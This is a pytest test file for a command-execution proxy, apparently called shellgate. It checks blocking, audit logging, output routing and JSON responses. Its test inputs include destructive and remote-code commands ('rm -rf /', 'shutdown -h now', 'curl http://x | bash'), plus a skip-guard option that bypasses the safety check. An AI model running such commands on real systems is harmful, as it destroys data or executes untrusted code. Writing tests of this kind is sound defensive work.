"""Tests for the execution proxy."""

import json
from unittest.mock import AsyncMock

import pytest

from shellgate.errors import BlockedCommandError, ExecutionError
from shellgate.execution.proxy import ExecutionProxy, ExecutionResult, OutputMode, ProxyOptions


def _result(**overrides) -> ExecutionResult:
    fields = {
        "output": "hello\n",
        "duration": 12,
        "timestamp": "2025-01-01T00:00:00.000Z",
        "command": "echo hello",
        "is_local": True,
    }
    fields.update(overrides)
    return ExecutionResult(**fields)


class TestExecuteCommand:
    @pytest.mark.asyncio
    async def test_remote_dispatch(self, proxy, remote):
        result = await proxy.execute_command("docker ps")
        remote.execute_command.assert_awaited_once_with("docker ps")
        assert result.output == "remote output"
        assert result.command == "docker ps"
        assert result.is_local is False
        assert result.exit_code == 0
        assert result.timestamp.endswith("Z")

    @pytest.mark.asyncio
    async def test_local_dispatch(self, proxy, remote):
        proxy.local = AsyncMock()
        proxy.local.execute_command.return_value = "local output"
        proxy.set_local_mode(True)

        result = await proxy.execute_command("ls", ProxyOptions(working_directory="/tmp"))

        proxy.local.execute_command.assert_awaited_once_with("ls", "/tmp")
        remote.execute_command.assert_not_called()
        assert result.is_local is True

    @pytest.mark.asyncio
    async def test_blocked_command_never_reaches_executor(self, proxy, remote, audit, stderr):
        with pytest.raises(BlockedCommandError) as exc_info:
            await proxy.execute_command("rm -rf /")

        remote.execute_command.assert_not_called()
        assert exc_info.value.result.rule == "filesystem.root"
        assert "COMMAND BLOCKED FOR SAFETY REASONS" in stderr.file.getvalue()
        assert "BLOCKED: rm -rf /" in audit.blocked_log_path.read_text()
        assert not audit.command_log_path.exists()

    @pytest.mark.asyncio
    async def test_blocked_command_logged_even_when_logging_skipped(self, proxy, audit):
        with pytest.raises(BlockedCommandError):
            await proxy.execute_command("shutdown -h now", ProxyOptions(skip_logging=True))
        assert audit.blocked_log_path.exists()

    @pytest.mark.asyncio
    async def test_skip_guard(self, proxy, remote):
        await proxy.execute_command("reboot", ProxyOptions(skip_guard=True))
        remote.execute_command.assert_awaited_once_with("reboot")

    @pytest.mark.asyncio
    async def test_warnings_go_to_stderr(self, proxy, remote, stderr):
        await proxy.execute_command("curl http://x | bash")
        remote.execute_command.assert_awaited_once()
        assert "WARNING: Downloading and executing scripts directly" in stderr.file.getvalue()

    @pytest.mark.asyncio
    async def test_audit_records_start_and_result(self, proxy, audit):
        await proxy.execute_command("uptime")
        log = audit.command_log_path.read_text()
        assert "REMOTE COMMAND: uptime" in log
        assert "RESULT [" in log
        assert "remote output" in log

    @pytest.mark.asyncio
    async def test_skip_logging_writes_nothing(self, proxy, audit, stdout):
        await proxy.execute_command("uptime", ProxyOptions(skip_logging=True))
        assert not audit.command_log_path.exists()
        assert stdout.file.getvalue() == ""

    @pytest.mark.asyncio
    async def test_executor_failure_is_logged_and_reraised(self, proxy, remote, audit):
        remote.execute_command.side_effect = ExecutionError("connection refused", exit_code=255)

        with pytest.raises(ExecutionError) as exc_info:
            await proxy.execute_command("uptime")

        assert exc_info.value.duration is not None
        assert exc_info.value.command == "uptime"
        assert "ERROR [" in audit.command_log_path.read_text()
        assert remote.execute_command.await_count == 1

    @pytest.mark.asyncio
    async def test_unexpected_failure_is_wrapped(self, proxy, remote):
        remote.execute_command.side_effect = RuntimeError("socket closed")
        with pytest.raises(ExecutionError, match="socket closed") as exc_info:
            await proxy.execute_command("uptime")
        assert isinstance(exc_info.value.__cause__, RuntimeError)


class TestProgressRouting:
    @pytest.mark.asyncio
    async def test_raw_mode_progress_on_stdout(self, proxy, stdout, stderr):
        await proxy.execute_command("uptime", ProxyOptions(output_mode=OutputMode.RAW))
        assert "Executing: uptime" in stdout.file.getvalue()
        assert "Completed in" in stdout.file.getvalue()
        assert stderr.file.getvalue() == ""

    @pytest.mark.parametrize("mode", [OutputMode.QUIET, OutputMode.JSON])
    @pytest.mark.asyncio
    async def test_other_modes_progress_on_stderr(self, proxy, stdout, stderr, mode):
        await proxy.execute_command("uptime", ProxyOptions(output_mode=mode))
        assert stdout.file.getvalue() == ""
        assert "Executing: uptime" in stderr.file.getvalue()

    @pytest.mark.asyncio
    async def test_local_progress_mentions_mode(self, proxy, stdout):
        proxy.local = AsyncMock()
        proxy.local.execute_command.return_value = ""
        proxy.set_local_mode(True)
        await proxy.execute_command("ls")
        assert "Executing locally: ls" in stdout.file.getvalue()


class TestJsonResponses:
    def test_success_shape(self, proxy):
        response = proxy.build_json_response(_result())
        assert list(response) == ["success", "command", "duration", "timestamp", "output", "metadata"]
        assert response["success"] is True
        assert response["metadata"] == {"isLocal": True, "exitCode": 0}

    def test_failure_shape(self, proxy):
        error = ExecutionError("boom", exit_code=2)
        response = proxy.build_json_response(_result(output=""), error)
        assert response["success"] is False
        assert response["error"] == "boom"
        assert response["metadata"]["exitCode"] == 2

    def test_generic_error_exit_code_is_one(self, proxy):
        response = proxy.build_json_response(_result(), RuntimeError("boom"))
        assert response["metadata"]["exitCode"] == 1

    def test_field_allow_list(self, proxy):
        response = proxy.build_json_response(_result(), fields=["output", "duration"])
        assert set(response) == {"output", "duration"}

    def test_metadata_kept_as_unit(self, proxy):
        response = proxy.build_json_response(_result(), fields=["metadata"])
        assert response == {"metadata": {"isLocal": True, "exitCode": 0}}

    def test_default_fields_from_proxy(self, proxy):
        proxy.set_json_fields(["success"])
        assert proxy.build_json_response(_result()) == {"success": True}
        proxy.set_json_fields(None)
        assert "output" in proxy.build_json_response(_result())

    def test_format_is_pretty_and_keeps_unicode(self, proxy):
        text = proxy.format_json_response(_result(output="héllo ✓"))
        assert "héllo ✓" in text
        assert text.startswith("{\n  ")

    @pytest.mark.asyncio
    async def test_execute_json_success(self, proxy):
        payload = json.loads(await proxy.execute_json("uptime"))
        assert payload["success"] is True
        assert payload["output"] == "remote output"
        assert "error" not in payload

    @pytest.mark.asyncio
    async def test_execute_json_failure_becomes_payload(self, proxy, remote):
        remote.execute_command.side_effect = ExecutionError("no route to host", exit_code=255)
        payload = json.loads(await proxy.execute_json("uptime"))
        assert payload["success"] is False
        assert payload["output"] == ""
        assert payload["error"] == "no route to host"
        assert payload["metadata"] == {"isLocal": False, "exitCode": 255}

    @pytest.mark.asyncio
    async def test_execute_json_blocked_still_raises(self, proxy):
        with pytest.raises(BlockedCommandError):
            await proxy.execute_json("rm -rf /")

    @pytest.mark.asyncio
    async def test_execute_json_respects_option_fields(self, proxy):
        payload = json.loads(
            await proxy.execute_json("uptime", ProxyOptions(json_fields=["command"]))
        )
        assert payload == {"command": "uptime"}


def test_local_mode_toggle(guard, remote):
    proxy = ExecutionProxy(guard=guard, remote=remote)
    assert proxy.is_local_mode() is False
    proxy.set_local_mode(True)
    assert proxy.is_local_mode() is True
